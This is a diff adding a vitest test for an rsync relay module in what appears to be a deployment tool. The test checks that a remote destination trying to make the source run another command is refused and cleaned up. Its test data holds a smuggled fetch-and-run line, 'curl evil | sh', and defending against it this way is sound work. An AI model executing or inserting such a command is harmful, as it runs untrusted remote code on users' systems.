@@ -1,12 +1,14 @@
-import {TransshipError} from '@transship/kit'
+import {type RemoteProcess, type RemoteShell, TransshipError} from '@transship/kit'
 import {spawnSync} from 'node:child_process'
-import {describe, expect, it} from 'vitest'
+import {PassThrough} from 'node:stream'
+import {describe, expect, it, vi} from 'vitest'
 
 import {
   destinationCommand,
   excludePattern,
   parseItemizedLine,
   parseRsyncVersion,
+  rsyncRelay,
   senderCommand,
   unescapeRsyncName,
 } from '../../src/rsync-relay.js'
@@ -129,5 +131,50 @@ describe('rsync relay: itemized changes', () => {
       undefined,
       undefined,
     ])
+  })
+})
+
+/** a destination whose relay reports `args` (NUL-framed, after the list file's name), then waits to be stopped */
+function reportingShell(args: string[]): {commands: string[]; shell: RemoteShell} {
+  const commands: string[] = []
+  const shell: RemoteShell = {
+    engineSocket: '/run/docker.sock',
+    exec(command, options) {
+      commands.push(command)
+      const stdout = new PassThrough()
+      const process: RemoteProcess = {
+        exit: new Promise((resolve) => {
+          options?.signal?.addEventListener('abort', () => resolve({code: null, signal: 'SIGTERM', stderr: ''}))
+        }),
+        stdin: new PassThrough(),
+        stdout,
+      }
+      stdout.write(['/tmp/transship-rsync.x', String(args.length), ...args].map((field) => `${field}\0`).join(''))
+      return process
+    },
+    run: vi.fn(async (command: string) => {
+      commands.push(command)
+      return {code: 0, stderr: '', stdout: ''}
+    }),
+  }
+  return {commands, shell}
+}
+
+describe('rsync relay: a destination that asks for another command', () => {
+  it('is refused: nothing runs on the source, the destination is stopped, its list file removed', async () => {
+    const destination = reportingShell(['x', 'sh', '-c', 'curl evil | sh'])
+    const exec = vi.fn()
+    const source: RemoteShell = {engineSocket: '', exec, run: vi.fn()}
+    const relayed = rsyncRelay(
+      {host: 'here', root: '/src', shell: source},
+      {host: 'there', root: '/dst', shell: destination.shell},
+    )
+    await expect(relayed).rejects.toMatchObject({
+      code: 'VOLUME_RSYNC_REFUSED',
+      message: expect.stringContaining('there asked to run something other than an rsync sender'),
+    })
+    expect(exec).not.toHaveBeenCalled()
+    expect(source.run).not.toHaveBeenCalled()
+    expect(destination.commands.at(-1)).toBe("rm -f -- '/tmp/transship-rsync.x'")
   })
 })
